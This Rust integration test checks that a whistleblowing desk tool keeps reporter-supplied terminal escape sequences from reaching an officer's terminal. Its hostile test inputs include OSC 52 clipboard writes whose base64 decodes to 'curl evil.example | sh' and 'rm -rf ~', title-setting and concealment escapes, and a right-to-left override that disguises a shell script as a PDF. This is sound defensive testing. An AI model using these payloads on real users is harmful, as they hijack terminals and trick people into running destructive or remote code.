//! A reporter cannot drive the officer's terminal. A report full of escape
//! sequences (erase line, cursor up, window title, OSC 52 clipboard writes,
//! conceal), C1 controls and bidi overrides goes through the real server;
//! the real `candor-desk cases` and `show` then run on a pseudo-terminal
//! (util-linux `script`) and none of it reaches the terminal, `--json` keeps
//! every string exact, and `--extract` writes the attachment under a name
//! without the bidi override that would make `…fdp.sh` read as `…hs.pdf`.

#![cfg(all(feature = "server", feature = "desk"))]

mod common;

use std::path::Path;
use std::process::{Command, Stdio};

use candor::desk::terminal::needs_escape;
use common::*;

/// Terminal instructions a hostile reporter would send.
const HOSTILE: &str = concat!(
    "Dear office,\u{1b}[2K\u{1b}[1A\u{1b}[2K", // erase line, cursor up, erase line
    "\u{1b}]0;candor: all cases closed\u{7}",  // set the window title
    "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}", // OSC 52: write the clipboard
    "\u{1b}[8mhidden instructions\u{1b}[28m",  // conceal
    "\u{9b}2J\u{9d}0;c1 title\u{9c}",          // C1 CSI erase screen, C1 OSC
    "\rover\u{8}\u{7f}written",                // carriage return, backspace, DEL
    " \u{202e}gpj.exe\u{202c} \u{2067}isolate\u{2069} zero\u{200b}width"
);

/// Characters HOSTILE carries that must never reach the terminal as they are.
fn forbidden(c: char) -> bool {
    needs_escape(c) && c != '\r'
}

/// A multipart body built by hand: a browser may send any bytes in a file
/// name (a client library would percent-encode them).
fn multipart(boundary: &str, fields: &[(&str, &str)], file: Option<(&str, &[u8])>) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, value) in fields {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                .as_bytes(),
        );
    }
    if let Some((file_name, bytes)) = file {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"{file_name}\"\r\nContent-Type: application/pdf\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    body
}

fn post(site: &str, path: &str, body: Vec<u8>) -> String {
    let boundary = "candor-terminal-test-boundary";
    let resp = client()
        .post(format!("{site}{path}"))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(body)
        .send()
        .expect("post");
    assert_eq!(resp.status(), 200, "{path} refused");
    resp.text().expect("body")
}

/// Runs the real desk on a pseudo-terminal; returns what reached the terminal.
fn on_terminal(args: &[&str]) -> String {
    let quoted: Vec<String> = std::iter::once(DESK)
        .chain(args.iter().copied())
        .map(|a| format!("'{a}'"))
        .collect();
    let out = Command::new("script")
        .args(["-q", "-e", "-c", &quoted.join(" "), "/dev/null"])
        .stdin(Stdio::null())
        .output()
        .expect("run script (util-linux)");
    assert!(
        out.status.success(),
        "candor-desk {args:?} failed on the terminal:\n{}",
        String::from_utf8_lossy(&out.stdout)
    );
    String::from_utf8(out.stdout).expect("utf-8 on the terminal")
}

/// What reached the terminal that should not have, as code points.
fn leaks(screen: &str) -> Vec<String> {
    // The terminal itself turns each newline into CR LF.
    screen
        .replace("\r\n", "\n")
        .chars()
        .filter(|&c| forbidden(c) || c == '\r')
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

#[test]
fn hostile_text_never_drives_the_officers_terminal() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let (public, secret) = keygen(&tmp.path().join("office"));
    let server = Server::start(&tmp.path().join("data"), &public);
    let boundary = "candor-terminal-test-boundary";
    let attachment_name = "invoice\u{202e}fdp.sh";
    let page = post(
        &server.site,
        "/report",
        multipart(
            boundary,
            &[
                ("kind", "misconduct"),
                ("category", "fraud"),
                ("description", HOSTILE),
                ("when", "\u{1b}[1A\u{1b}[2Kyesterday"),
                ("where", "\u{1b}]52;c;cm0gLXJmIH4=\u{7}office"),
                ("people", "\u{202e}nodnol"),
                ("contact", "\u{1b}[8mnone"),
            ],
            Some((attachment_name, b"#!/bin/sh\necho not a pdf\n")),
        ),
    );
    let receipt = element_text(&page, "receipt").expect("receipt");
    let (status, page) = login(&server.site, &receipt);
    assert_eq!(status, 200);
    let session = session_field(&page).expect("session");
    post(
        &server.site,
        "/followup/message",
        multipart(
            boundary,
            &[("session", &session), ("message", HOSTILE)],
            Some(("notes\u{9b}2J\u{2066}.txt", b"more")),
        ),
    );
    let bundle = tmp.path().join("export.bundle");
    assert_eq!(export(&server.api, &token(&secret), 0, &bundle), 200);
    server.stop();

    let vault = tmp.path().join("vault");
    let v = vault.to_str().expect("path");
    desk_ok(&[
        "open",
        bundle.to_str().expect("path"),
        "--keys",
        secret.to_str().expect("path"),
        "--vault",
        v,
    ]);
    let cases: serde_json::Value =
        serde_json::from_str(&desk_ok(&["cases", "--vault", v, "--json"])).expect("json");
    let id = cases[0]["id"].as_str().expect("id").to_owned();

    // --json stays exact, and is safe on a terminal too (JSON escapes).
    let json = on_terminal(&["show", &id, "--vault", v, "--json"]);
    let shown: serde_json::Value = serde_json::from_str(&json.replace("\r\n", "\n")).expect("json");
    assert_eq!(shown["description"], HOSTILE);
    assert_eq!(shown["attachments"][0]["name"], attachment_name);

    let extract = tmp.path().join("extract");
    let mut problems = Vec::new();
    for args in [
        vec!["show", &id, "--vault", v, "--json"],
        vec!["cases", "--vault", v, "--json"],
        vec!["cases", "--vault", v],
        vec!["show", &id, "--vault", v],
        vec![
            "show",
            &id,
            "--vault",
            v,
            "--extract",
            extract.to_str().expect("path"),
        ],
        vec!["stats", "--vault", v],
    ] {
        let screen = on_terminal(&args);
        let leaked = leaks(&screen);
        if !leaked.is_empty() {
            problems.push(format!(
                "candor-desk {args:?} sent {leaked:?} to the terminal:\n{screen}"
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n\n"));
    // The officer still sees what was sent, as text.
    let screen = on_terminal(&["show", &id, "--vault", v]);
    assert!(screen.contains("\\u{1b}]52;c;"), "{screen}");
    assert!(screen.contains("invoice\\u{202e}fdp.sh"), "{screen}");

    let names: Vec<String> = std::fs::read_dir(&extract)
        .expect("extracted")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    for name in &names {
        assert!(!name.chars().any(forbidden), "extracted as {name:?}");
    }
    assert!(names.iter().any(|n| n.ends_with("invoicefdp.sh")), "{names:?}");
    assert_eq!(
        std::fs::read(extract.join(names.iter().find(|n| n.ends_with("invoicefdp.sh")).expect("name")))
            .expect("read"),
        b"#!/bin/sh\necho not a pdf\n"
    );
    assert!(Path::new(&extract).is_dir());
}
